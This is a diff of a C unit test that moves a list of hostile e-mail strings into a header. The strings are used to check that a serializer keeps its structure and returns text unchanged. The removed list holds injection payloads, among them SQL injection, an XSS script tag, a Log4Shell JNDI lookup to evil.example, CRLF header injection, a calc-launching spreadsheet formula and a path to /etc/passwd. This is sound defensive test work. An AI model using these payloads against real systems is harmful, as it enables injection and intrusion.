@@ -1,4 +1,5 @@
 #include "buf.h"
+#include "hostile.h"
 #include "item.h"
 
 #include <setjmp.h>
@@ -88,71 +89,6 @@ what_is_absent_is_left_out_and_what_is_empty_is_not(void **state)
 	buf_free(&b);
 }
 
-/* What a sender may put into an e-mail to break what reads it later. */
-static const char *const hostile[] = {
-	"\"",
-	"\\",
-	"\\\"",
-	"\\\\\"",
-	"\",\"severity\":0,\"x\":\"",
-	"\"}\n{\"id\":\"0\"}",
-	"\"}]",
-	"\\u0022",
-	"\\u0000",
-	"\\",
-	"\\u",
-	"\\ud800",
-	"\n",
-	"\r\n",
-	"\r\nIdempotency-Key: 0",
-	"a\nb\nc\n",
-	"\t\t",
-	"\b\f\v\a\033[2J",
-	"\033]0;title\007",
-	"\x7f",
-	"/",
-	"<\\/script>",
-	"</script><script>alert(1)</script>",
-	"<!--",
-	"]]>",
-	"&quot;&#34;",
-	"'; DROP TABLE alert; --",
-	"' OR '1'='1",
-	"${jndi:ldap://evil.example/a}",
-	"{{7*7}}",
-	"%s%s%s%n",
-	"%00",
-	"%0d%0aX: y",
-	"=cmd|' /C calc'!A0",
-	"CEF:0|a|b|c|d|e|10|act=x",
-	"a|b\\|c",
-	"key=value\\=x",
-	"null",
-	"true",
-	"0",
-	"[]",
-	"{}",
-	"{\"id\":1}",
-	" leading and trailing ",
-	"\xef\xbb\xbf after a byte order mark",
-	"\xef\xbf\xbd stood for what was no text",
-	"\xe2\x80\xa8 line and paragraph \xe2\x80\xa9 separators",
-	"\xe2\x80\xaegpj.exe",
-	"\xe2\x80\x8b zero width",
-	"\xc2\x80\xc2\x9f C1",
-	"\xc2\xa0 no break",
-	"e\xcc\x81 combining",
-	"\xf0\x9f\x92\xa9",
-	"\xf4\x8f\xbf\xbf the last code point",
-	"\xef\xbf\xbf no character",
-	"\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
-	"\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e",
-	"../../../etc/passwd",
-	"a,b;c\td",
-	"-1e999",
-	"\\x41\\101",
-};
-
 static const size_t texts[] = {
 	offsetof(struct item, tenant),
 	offsetof(struct item, log),
@@ -238,7 +174,7 @@ hostile_text_changes_no_structure_and_comes_back_exactly(void **state)
 	char one[] = "aXb";
 
 	(void)state;
-	for (size_t n = 0; n < sizeof hostile / sizeof hostile[0]; n++)
+	for (size_t n = 0; n < HOSTILE; n++)
 		try_in_every_field(hostile[n]);
 	for (int c = 1; c < 0x80; c++) {
 		one[1] = (char)c;
